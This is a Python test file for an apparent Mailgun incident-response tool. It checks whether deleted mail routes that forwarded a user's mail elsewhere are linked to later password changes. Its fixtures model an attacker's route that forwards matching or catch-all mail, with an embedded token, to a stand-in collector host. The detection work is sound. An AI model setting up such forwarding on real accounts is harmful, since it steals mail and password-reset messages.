"""Whose password mail a route took: what is known of it when the route is gone."""

from __future__ import annotations

from dataclasses import replace
from datetime import timedelta

from tests.support.effects import an_effect
from tests.support.situations import NOW, OLD, US, Story, situation
from workbench.domain.detection.hosts import CustomerNames
from workbench.domain.model.hash_chain import canonical
from workbench.domain.model.inventory import UserItem
from workbench.domain.model.plan import Effect, EffectKind
from workbench.domain.model.settings import PlaceSettings, Settings
from workbench.domain.model.situation import Situation
from workbench.domain.runbook.tapped import password_of
from workbench.domain.settings_audit.audit import Clues, Swept, sweep
from workbench.domain.settings_audit.recorded import SweepRead
from workbench.domain.settings_audit.remedies import effect_of
from workbench.mailgun.endpoints import Region
from workbench.mailgun.models import Domain, Route, User

MAIL = "ann@mg.acme.example"
HOME = CustomerNames.of(["mg.acme.example"])
SECRET = "s3cr3t-t0ken"
ACTIONS = (f'forward("https://hook:{SECRET}@collect.drop.test/in?token={SECRET}")', "stop()")


def swept(expression: str, actions: tuple[str, ...] = ACTIONS) -> Swept:
    """Return a route that was made inside the window, as the sweep judges it."""
    found = Settings(NOW, NOW - timedelta(days=2))
    route = Route(id="r1", expression=expression, actions=actions, created_at=NOW - timedelta(hours=6))
    found.places[US] = PlaceSettings(US, routes=[route])
    (item,) = sweep(found, HOME, Clues()).swept
    return item


def after(removal: Effect, hours: float) -> Situation:
    """Return where a route was deleted two hours after the cut, and a user's password was set ``hours`` after it."""
    story = Story().verified([an_effect(EffectKind.KEY_DELETE, "k1")])
    story.at = NOW + timedelta(hours=2)
    found = situation(
        domains=[Domain(name="mg.acme.example", created_at=OLD)], state=story.verified([removal]).state()
    )
    user = User(id="u1", email=MAIL, name="Ann", password_updated_at=NOW + timedelta(hours=hours))
    found.inventory.users["u1"] = UserItem(user, US)
    return found


def told(item: Swept, hours: float = 1) -> str:
    removal = effect_of(item, Region.US)
    assert removal is not None
    found = after(removal, hours)
    return password_of(found, found.inventory.users["u1"])


def test_a_password_set_while_a_deleted_route_took_its_mail_shuts_nobody_out() -> None:
    mine = swept(f"match_recipient('{MAIL}')")
    assert told(mine) == "a route that was deleted since"
    assert told(swept("catch_all()")) == "a route that was deleted since"
    assert told(mine, hours=3) == "", "set when nobody read it any more"
    assert told(mine, hours=-1) == "", "set before the cut"


def test_a_deleted_route_that_took_other_mail_or_stayed_at_home_copied_nothing() -> None:
    assert told(swept("match_recipient('desk@mg.acme.example')")) == ""
    home = ('forward("https://desk.mg.acme.example/in")',)
    assert told(swept(f"match_recipient('{MAIL}')", home)) == ""


def test_a_sweep_of_an_earlier_version_names_the_hosts_all_the_same() -> None:
    item = swept(f"match_recipient('{MAIL}')")
    before = {"expression": f"match_recipient('{MAIL}')", "actions": list(ACTIONS)}
    assert told(replace(item, params=before)) == "a route that was deleted since"


def test_the_address_that_a_route_gave_mail_to_stays_out_of_the_plan_and_of_the_sweep() -> None:
    item = swept(f"match_recipient('{MAIL}')")
    removal = effect_of(item, Region.US)
    assert removal is not None
    assert SECRET not in canonical(removal.to_json())
    assert SECRET not in canonical(SweepRead(items=(item,)).body())
